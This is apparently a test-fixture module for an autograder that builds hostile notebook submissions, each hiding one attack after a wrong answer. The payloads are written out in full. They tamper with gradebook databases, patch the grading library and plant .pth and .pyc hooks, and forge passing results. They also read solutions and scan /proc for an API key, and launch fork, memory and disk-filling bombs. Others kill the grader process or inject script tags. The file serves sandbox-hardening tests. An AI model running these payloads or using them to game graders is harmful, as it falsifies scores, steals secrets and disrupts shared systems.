"""Hostile submissions for tests/test_attacks.py: the released reconcile notebook, a WRONG ``reconcile``, one attack each.

Every attacker answers ``reconcile`` with ``grading_samples.REAL_RERUN`` (honestly worth
``WRONG_SCORE``), so every point over that is undeserved. The attack runs in cells added after the
``reconcile`` cell, before the tests. Paths the attack aims at are filled in when the class is
written (``@REPO@``, ``@OUT@``, ``@CLASS@``, ``@SITE@``, ``@PORT@``), as a learner who knows the
grading machine's layout would hard-code them.
"""

from __future__ import annotations

import copy
from pathlib import Path

import grading_samples as samples  # tests/ is on sys.path under pytest (rootdir-relative import)
import nbformat

MARKER = "resumable-attack-7f3e"
"""In the command line of every background process an attack starts: none may be alive after grading."""
FAKE_KEY = "sk-ant-fake-" + MARKER
"""The ANTHROPIC_API_KEY set in the grader's environment: it must appear nowhere the learner can write."""
MINCORE = """import ctypes, mmap, os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def _cached(path):
    # mincore() of a mapping of the file's first page: preadv2(RWF_NOWAIT) is refused through an overlay
    fd = os.open(path, os.O_RDONLY)
    try:
        at = _libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
        vec = ctypes.create_string_buffer(1)
        _libc.mincore(at, 4096, vec)
        _libc.munmap(at, 4096)
        return bool(vec.raw[0] & 1)
    finally:
        os.close(fd)
"""
"""A page-cache probe for code run in a sandbox: ``_cached(path)``, whether the file's first page is in the cache."""
WRONG_LEVEL1 = 'RESUME_ACTION = {"A": "rerun_tool", "B": "rerun_tool", "C": "rerun_tool"}'
"""Right for B only: 2 of level 1's 3 points lost."""

TAMPER = r"""# every gradebook, output file and classmate's notebook the kernel can reach
import glob, os, sqlite3
hits = []
for db in glob.glob("@OUT@/**/*.db", recursive=True):
    try:
        with sqlite3.connect(db) as con:
            con.execute("UPDATE grade SET manual_score = 100")
        hits.append(db)
    except Exception as e:
        pass
for path in ["@OUT@/grades.csv", "@OUT@/feedback-html/correct.html", *glob.glob("@CLASS@/*.ipynb"),
             *glob.glob("@OUT@/submitted/*/reconcile/*.ipynb"), *glob.glob("@OUT@/workers/*/submitted/*/*/*.ipynb")]:
    if "tamper" in path:
        continue
    try:
        with open(path, "w") as f:
            f.write("tampered")
        hits.append(path)
    except OSError:
        pass
print("tampered:", hits)"""

REWRITE_LIBRARY = r"""# the library later students are graded with, site-packages, a .pth hook, __pycache__
import glob, importlib, os, sys
PATCH = "\nfor _n in list(globals()):\n    if _n.startswith('check_'):\n        globals()[_n] = lambda *a, **k: None\n"
hits = []
import resumable_core.course.checks.reconcile as _target
for path in {_target.__file__, "@REPO@/resumable_core/course/checks/reconcile.py",
             "@REPO@/resumable_core/course/hidden/reconcile.py"}:
    try:
        with open(path, "a") as f:
            f.write(PATCH)
        hits.append(path)
    except OSError:
        pass
for site in {"@SITE@", *[p for p in sys.path if p.endswith("site-packages")]}:
    try:
        with open(os.path.join(site, "zz_@MARKER@.pth"), "w") as f:
            f.write("import builtins; builtins.ATTACK = 1\n")
        hits.append(site)
    except OSError:
        pass
for folder in {os.path.dirname(_target.__file__) + "/__pycache__", "@REPO@/resumable_core/course/checks/__pycache__"}:
    try:
        os.makedirs(folder, exist_ok=True)
        for pyc in glob.glob(folder + "/reconcile*.pyc") or [folder + "/reconcile.cpython-311.pyc"]:
            with open(pyc, "wb") as f:
                f.write(b"poisoned")
        hits.append(folder)
    except OSError:
        pass
importlib.reload(_target)
print("rewritten:", hits)"""

FORGE_RESULT = r"""# a process that outlives the kernel and keeps writing a result where every test passed
import subprocess, sys
FORGER = '''
import json, os, sys, time
path = ".result.ipynb"
while True:
    try:
        nb = json.load(open(path))
        nb["metadata"]["resumable_sandbox"] = {"done": len(nb["cells"]), "stopped": None}
        for i, c in enumerate(nb["cells"]):
            if c["cell_type"] == "code":
                c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok"}]
                c["execution_count"] = i + 1
        json.dump(nb, open(path + ".f", "w"))
        os.replace(path + ".f", path)
    except Exception:
        pass
    for folder in ("reports", "../reports", "@OUT@/reports"):
        try:
            os.makedirs(folder, exist_ok=True)
            json.dump({"student": "correct", "worker": ".", "success": False, "error": "kernel died"},
                      open(folder + "/correct.json", "w"))
        except OSError:
            pass
    time.sleep(0.005)
'''
subprocess.Popen([sys.executable, "-c", FORGER, "@MARKER@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("forger started")"""

READ_SECRETS = r"""# the solution, the assignment's source, the grader's secrets, the network
import glob, json, os, socket
stolen = []
for path in ["@REPO@/solutions/reconcile/reconcile.ipynb", "@OUT@/source/reconcile/reconcile.ipynb",
             *glob.glob("@OUT@/workers/*/source/reconcile/reconcile.ipynb")]:
    try:
        cells = json.load(open(path))["cells"]
    except OSError:
        continue
    for c in cells:
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "reconcile":
            src = "".join(c["source"])
            stolen.append("\n".join(ln for ln in src.splitlines() if "### " not in ln))
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
        stolen.append(s.recv(65536).decode())
except OSError as e:
    print("no network:", type(e).__name__)
for code in stolen:
    exec(code, globals())
for entry in os.listdir("/proc"):  # every process it can see, the sandbox's own pid 1 too
    try:
        environ = open(f"/proc/{entry}/environ", "rb").read()
    except OSError:
        continue
    if b"ANTHROPIC_API_KEY" in environ:
        print("environ of", entry, environ.decode(errors="replace"))
print("key:", os.environ.get("ANTHROPIC_API_KEY"), "stolen:", len(stolen))"""

ANSWER_KEY = (
    "# level 1's answer key, read from the hidden checks the kernel must import to run the hidden tests\n"
    "try:\n"
    "    from resumable_core.course.hidden.reconcile import ANSWER_KEY\n"
    "except ImportError:\n"
    "    ANSWER_KEY = None\n" + WRONG_LEVEL1.replace("= ", "= dict(ANSWER_KEY) if ANSWER_KEY else ", 1)
)

MEMORY_SPREAD = r"""# memory spread over processes: each under the 1 GiB per-process cap, together far over it
import os, select
ready_r, ready_w = os.pipe()
release_r, release_w = os.pipe()
kids = set()
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            os.close(release_w)  # else no child ever sees the release
            share = b"\1" * (500 << 20)  # written, so resident
            os.write(ready_w, b"%d " % os.getpid())
            os.read(release_r, 1)  # hold it until every child holds its share or is dead
        finally:
            os._exit(0)
    kids.add(pid)
ready, ended = set(), {}
while ready | set(ended) != kids:  # a child the memory cap killed never says it is ready
    if select.select([ready_r], [], [], 0.1)[0]:
        ready.update(int(p) for p in os.read(ready_r, 4096).split())
    for pid in kids - set(ended):
        got, status = os.waitpid(pid, os.WNOHANG)
        if got:
            ended[pid] = status
os.close(release_w)
ended.update((pid, os.waitpid(pid, 0)[1]) for pid in kids - set(ended))
held = [pid for pid in ready if ended[pid] & 0x7F != 9]  # said it held its share, and was not killed holding it
print(f"held at once: {len(held)} x 500 MiB")"""

MEMORY_BOMB = "x = bytearray(8 << 30)  # memory bomb: 8 GiB"

FORK_BOMB = r"""# fork bomb: every child forks again until the cap, then waits
import os, time
try:
    for _ in range(400):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(600)
except OSError as e:
    print("fork refused:", e)"""

DISK_FILLER = r"""# disk filler: one file far over the file size cap
with open("filler.bin", "wb") as f:
    for _ in range(200):
        f.write(b"\0" * (1 << 20))"""

OUTPUT_FLOOD = r"""# output flood on the kernel's own stdout (the sandbox's pipe)
import os
for _ in range(64):
    os.write(1, b"x" * (64 << 10))"""

KILL_PARENT = r"""# kill the grading worker: the kernel's parent, then everything this process may signal
import os, signal
print("parent", os.getppid())
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)"""

FAKE_IDS = r"""# reports and files in the names of students who do not exist
import json, os
for folder in ("reports", "../reports", "@OUT@/reports", *__import__("glob").glob("@OUT@/workers/*/reports")):
    try:
        os.makedirs(folder, exist_ok=True)
        json.dump({"student": "no_such_student", "worker": ".", "success": True}, open(folder + "/no_such_student.json", "w"))
    except OSError:
        pass
print(json.dumps({"student": "no_such_student", "success": True}))"""

REPORT_LINES = r"""# forged report lines on every output, and a child that holds the pipes open
import json, os, subprocess, sys
line = json.dumps({"student": "correct", "worker": ".", "success": False, "error": "kernel died"}) + "\n"
for fd in (1, 2):
    os.write(fd, line.encode())
print(line, end="")
print(line, end="", file=sys.stderr)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "@MARKER@"], stdout=1, stderr=2,
                 stdin=subprocess.DEVNULL, start_new_session=True, close_fds=False)"""

FORCE_INCONCLUSIVE = (
    "# pass everything in the kernel; anywhere else (the isolated re-check) die before any check runs\n"
    "import os, sys\n"
    "if 'ipykernel' not in sys.modules:\n"
    "    os._exit(0)\n" + samples.REAL_MONKEYPATCH[len(samples.REAL_RERUN) :]
)

SCRIPT = '<script>alert("@MARKER@")</script>'
SCRIPT_INJECTION = (
    f"print('{SCRIPT}')\n"
    "from IPython.display import HTML, Javascript, display\n"
    f"display(HTML('{SCRIPT}'))\n"
    "display(Javascript('alert(1)'))\n"
    "for path in ('@OUT@/feedback-html/correct.html', '@OUT@/feedback/correct/reconcile/reconcile.html'):\n"
    "    try:\n"
    f"        open(path, 'w').write('{SCRIPT}')\n"
    "    except OSError:\n"
    "        pass"
)


QUIET_TESTS = r"""# every later cell, the test cells too, is recorded as having run without an error
import resumable_core.course.grading.inside.shell as _shell
_run_cell = _shell.run_cell
def _quiet(shell, source, count, timeout):
    _run_cell(shell, source, count, timeout)
    return []
_shell.run_cell = _quiet"""

FILL = r"""
def _fill(folder):  # bytes, then inodes, of the tmpfs the re-check's folders are on
    i = 0
    for size in (1 << 20, 1 << 12, 1):
        full = False
        while not full:  # files of 32 MiB at most: under the file-size cap
            try:
                with open(f"{folder}/.fill{i}", "wb") as f:
                    for _ in range((32 << 20) // size):
                        f.write(b"x" * size)
                        f.flush()
            except OSError:
                full = True
            i += 1
    while True:
        try:
            open(f"{folder}/.inode{i}", "wb").close()
            i += 1
        except OSError:
            break
"""

FILL_SHARED = (
    QUIET_TESTS
    + FILL
    + r"""
import os, threading, time
def _when_serving():  # once the cells ran: the host writes the re-check's inputs after that
    while not os.path.exists("/grading/rpc/learner.sock"):
        time.sleep(0.02)
    _fill("/grading/shared")
threading.Thread(target=_when_serving, daemon=True).start()"""
)

FILL_THEN_EXIT = (
    FILL
    + r"""
import os
_fill("/grading/shared")
open("/grading/scratch/notes.txt", "wb").write(b"n" * 100_000)  # for the host to copy back
os._exit(0)"""
)

OVER_MAX = r"""# the record says every test ran clean and the last one earned 1e9 points: nbgrader saves, then fails
import resumable_core.course.grading.inside.shell as _shell
_save = vars(_shell)["_save"]
def _forged(nb, path):
    tests = [c for c in nb["cells"] if (c.get("metadata") or {}).get("nbgrader", {}).get("grade")
             and c.get("cell_type") == "code"]
    for c in tests:
        c["outputs"] = []
    if tests:
        tests[-1]["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1e9"},
                                 "metadata": {}, "execution_count": 1}]
    _save(nb, path)
vars(_shell).update(_save=_forged)"""


# student -> (cells added after ``reconcile``, answers by cell id)
ATTACKS: dict[str, tuple[list[str], dict[str, str]]] = {
    "tamper": ([TAMPER], {}),
    "rewrite_library": ([REWRITE_LIBRARY], {}),
    "forge_result": ([FORGE_RESULT], {}),
    "read_secrets": ([READ_SECRETS], {}),
    "answer_key": ([], {"level1_actions": ANSWER_KEY}),
    "bombs": ([MEMORY_SPREAD, MEMORY_BOMB, FORK_BOMB, DISK_FILLER, OUTPUT_FLOOD], {}),
    "kill_parent": ([KILL_PARENT], {}),
    "forged_output": (
        [REPORT_LINES, FAKE_IDS, SCRIPT_INJECTION],
        {"level1_why": f"My answer {SCRIPT} <img src=x onerror=alert(1)>"},
    ),
    "force_inconclusive": ([FORCE_INCONCLUSIVE], {}),
    "fill_shared": ([FILL_SHARED], {}),
    "fill_then_exit": ([FILL_THEN_EXIT], {}),
    "over_max": ([OVER_MAX], {}),
}
CONTROLS = {"correct": samples.REAL_CORRECT, "wrong": samples.REAL_RERUN}
CORRECT_SCORE = samples.SAMPLES["correct"][2]
WRONG_SCORE = samples.SAMPLES["rerun_everything"][2]
"""What the controls' answers score graded on their own (tests/test_grading.py asserts these)."""
WRONG_LEVEL1_SCORE = WRONG_SCORE - 2
"""The wrong answer with ``WRONG_LEVEL1``: two level-1 checks fail, 1 point each."""


def _fill(code: str, paths: dict[str, str]) -> str:
    for name, value in paths.items():
        code = code.replace(f"@{name}@", value)
    return code


def attacker(source: nbformat.NotebookNode, cells: list[str], answers: dict[str, str], paths: dict[str, str]):
    """The released notebook with the wrong answer, ``answers`` over it, and ``cells`` after ``reconcile``."""
    nb = samples.submission(source, {**samples.answers(samples.REAL_RERUN), **answers})
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "reconcile")
    nb.cells[at + 1 : at + 1] = [nbformat.v4.new_code_cell(_fill(code, paths)) for code in cells]
    return nb


def metadata_tricks(source: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The wrong answer, with a duplicate test (``pass``), a test without grade_id, edited points and checksums."""
    nb = samples.submission(source, samples.answers(samples.REAL_RERUN))
    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
    fake = copy.deepcopy(by_id["test_reconcile_C"])
    fake.source, fake.id = "pass", "fake-test"
    nb.cells.insert(nb.cells.index(by_id["test_reconcile_C"]), fake)
    for gid in ("test_level1_A", "test_reconcile_B"):
        by_id[gid].metadata.nbgrader.update(points=100, checksum="0" * 32)
    del by_id["test_api_accepts"].metadata.nbgrader["grade_id"]
    by_id["test_side_effect_tools"].source = "pass"
    return nb


def write_attack_class(source_path: Path, folder: Path, paths: dict[str, str]) -> None:
    """The controls, every attacker, the metadata tricks and a colliding pair (``twin`` and ``twin.``)."""
    source = nbformat.read(str(source_path), as_version=4)
    folder.mkdir(parents=True, exist_ok=True)
    paths = {**paths, "MARKER": MARKER}
    notebooks = {name: samples.submission(source, samples.answers(code)) for name, code in CONTROLS.items()}
    notebooks |= {name: attacker(source, cells, answers, paths) for name, (cells, answers) in ATTACKS.items()}
    notebooks["metadata_tricks"] = metadata_tricks(source)
    notebooks["twin"] = notebooks["correct"]
    notebooks["twin."] = notebooks["wrong"]
    for name, nb in notebooks.items():
        nbformat.write(nb, str(folder / f"{name}.ipynb"))
